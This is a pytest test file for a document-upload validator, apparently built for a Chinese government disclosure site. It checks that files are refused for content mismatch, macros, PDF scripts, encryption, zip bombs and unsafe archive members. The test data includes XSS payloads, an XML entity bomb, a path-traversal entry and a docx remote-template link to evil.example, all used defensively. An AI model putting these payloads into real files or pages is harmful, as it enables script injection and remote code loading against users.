import hashlib
import io
import random
import zipfile

import pytest

from tests.publish import made_files as made
from yangguang.publish.file_kinds import DEFAULT_KINDS
from yangguang.publish.upload_errors import UploadRefused
from yangguang.publish.uploads import check_upload

MB = 1 << 20


def checked(name, data, *, max_bytes=20 * MB, **more):
    return check_upload(name, io.BytesIO(data), max_bytes=max_bytes, **more)


def refusal(name, data, **more):
    with pytest.raises(UploadRefused) as refused:
        checked(name, data, **more)
    assert "请" in refused.value.message_zh, "a refusal says what to do"
    return refused.value


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("年度报告.pdf", made.pdf_bytes("年度报告"), "pdf"),
        ("通知.docx", made.docx_bytes("通知"), "docx"),
        ("清单.XLSX", made.xlsx_bytes([["名称"], ["甲"]]), "xlsx"),
        ("旧文.doc", made.ole_bytes("WordDocument", "1Table"), "doc"),
        ("旧表.et", made.ole_bytes("Workbook"), "xls"),
        ("旧稿.ppt", made.ole_bytes("A", "B", "C", "D", "E", "PowerPoint Document"), "ppt"),
        ("版式.ofd", made.zip_bytes({"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<D/>"}), "ofd"),
        ("图.png", made.png_bytes(), "png"),
        ("图.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(20), "jpeg"),
        ("图.gif", b"GIF89a" + bytes(20), "gif"),
        ("图.webp", b"RIFF\x10\0\0\0WEBPVP8 " + bytes(8), "webp"),
        ("说明.txt", "政府信息公开说明".encode("gb18030"), "txt"),
        ("数据.csv", "﻿名称,数量\n甲,1\n".encode(), "csv"),
        ("网页.html", "<!DOCTYPE html><title>公告</title><p>on 1 = 2</p>".encode("utf-16"), "html"),
    ],
)
def test_each_kind_is_known_by_its_content(name, data, kind):
    file = checked(name, data)

    assert file.kind == kind
    assert file.size == len(data)
    assert file.sha256 == hashlib.sha256(data).hexdigest()


def test_a_path_is_read_like_a_stream(tmp_path):
    path = tmp_path / "x"
    path.write_bytes(made.docx_bytes("正文"))

    assert check_upload("正文.docx", path, max_bytes=MB).mime.endswith("wordprocessingml.document")


def test_the_stream_is_left_at_its_start():
    stream = io.BytesIO("正文".encode())

    check_upload("a.txt", stream, max_bytes=MB)

    assert stream.tell() == 0


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("报告.pdf", made.docx_bytes("x")),
        ("报告.docx", made.xlsx_bytes([["x"]])),
        ("报告.xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
        ("报告.doc", b"{\\rtf1\\ansi abc}"),
        ("说明.txt", b"  <!DOCTYPE html><script>alert(1)</script>"),
        ("图.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("说明.txt", b'<?xml version="1.0"?><svg/>'),
        ("说明.txt", random.Random(1).randbytes(5000)),
        ("报告.doc", made.ole_bytes("SomethingElse")),
    ],
)
def test_an_ending_that_disagrees_with_the_content_is_refused(name, data):
    assert refusal(name, data).code == "content_disagrees"


def test_a_program_is_refused_under_any_name():
    assert refusal("通知.pdf", b"MZ" + bytes(200)).code == "program"


@pytest.mark.parametrize("name", ["a.svg", "a.exe", "a.docm", "无扩展名", "a.zip", "附件\u202efdp.exe"])
def test_a_kind_that_is_not_published_is_refused_with_the_list_of_those_that_are(name):
    refused = refusal(name, b"words")

    assert refused.code == "kind_not_accepted"
    assert "docx" in refused.message_zh and "zip" not in refused.message_zh


def test_macros_are_refused_in_new_office():
    package = made.with_member(made.docx_bytes("x"), "word/vbaProject.bin", b"\0")

    assert refusal("宏.docx", package).code == "macros"


def test_a_macro_document_renamed_to_docx_is_refused():
    package = made.docx_bytes("x")
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        types = archive.read("[Content_Types].xml")
    macro = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert macro != types

    assert refusal("宏.docx", made.with_member(package, "[Content_Types].xml", macro)).code == "macros"


def test_macros_are_refused_in_old_office():
    assert refusal("宏.doc", made.ole_bytes("WordDocument", "Macros", "VBA")).code == "macros"


def test_an_office_file_with_a_password_is_refused():
    data = made.ole_bytes("EncryptionInfo", "EncryptedPackage")

    assert refusal("密.docx", data).code == "encrypted"


def test_a_template_fetched_from_elsewhere_is_refused():
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" TargetMode="External" Target="http://evil.example/t.dotm" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    package = made.with_member(made.docx_bytes("x"), "word/_rels/settings.xml.rels", relations)

    assert refusal("模板.docx", package).code == "fetched_parts"


@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_entities_inside_office_xml_are_refused(codec):
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'.encode(codec)

    assert refusal("实体.docx", made.with_member(made.docx_bytes("x"), "word/x.xml", bomb)).code == "damaged"


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    package = made.with_member(made.docx_bytes("x"), "word/media/a.bin", bytes(64 * MB))
    assert len(package) < MB

    assert refusal("炸弹.docx", package).code == "too_much_inside"


def test_a_cut_off_package_is_refused():
    assert refusal("断.docx", made.docx_bytes("x")[:-200]).code == "damaged"


def test_a_cut_off_pdf_is_refused():
    data = made.pdf_bytes("正文")

    assert refusal("断.pdf", data[: len(data) // 2]).code == "damaged"


def test_a_pdf_with_a_script_is_refused():
    assert refusal("脚本.pdf", made.pdf_with_script()).code == "script"


def test_a_pdf_that_spells_the_script_in_hexadecimal_is_refused():
    data = made.pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript")

    assert refusal("脚本.pdf", data).code == "script"


def test_a_pdf_that_packs_the_script_away_is_refused():
    data = made.packed_pdf_with_script()
    assert b"/JavaScript" not in data

    assert refusal("脚本.pdf", data).code == "script"


def test_a_pdf_with_a_password_to_open_is_refused_and_one_locked_for_editing_is_not():
    assert refusal("密.pdf", made.locked_pdf("secret", owner="owner")).code == "encrypted"
    assert checked("锁.pdf", made.locked_pdf("", owner="owner")).kind == "pdf"


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<iframe src=x></iframe>",
        "<meta http-equiv=Refresh content='0;url=http://x'>",
        "<svg/onload=alert(1)>",
    ],
)
def test_a_page_that_runs_anything_is_refused(body):
    assert refusal("网页.htm", f"<html><body>{body}</body></html>".encode()).code == "script"


def test_an_empty_file_is_refused():
    assert refusal("空.txt", b"").code == "empty"


def test_a_file_over_the_limit_is_refused_with_the_limit():
    refused = refusal("大.txt", b"a" * (2 * MB + 1), max_bytes=2 * MB)

    assert refused.code == "too_large" and "2 MB" in refused.message_zh


def test_an_archive_is_taken_only_where_it_is_allowed_and_holds_only_our_kinds():
    allow = DEFAULT_KINDS | {"zip"}
    good = made.zip_bytes({"附件/1.txt": b"a"})

    assert checked("附件.zip", good, allow=allow).kind == "zip"
    assert refusal("附件.zip", made.zip_bytes({"a.exe": b"a"}), allow=allow).code == "unsafe_member"
    assert refusal("附件.zip", made.zip_bytes({"../../a.txt": b"a"}), allow=allow).code == "unsafe_member"
    assert refusal("附件.zip", made.zip_bytes({"b.zip": good}), allow=allow).code == "unsafe_member"
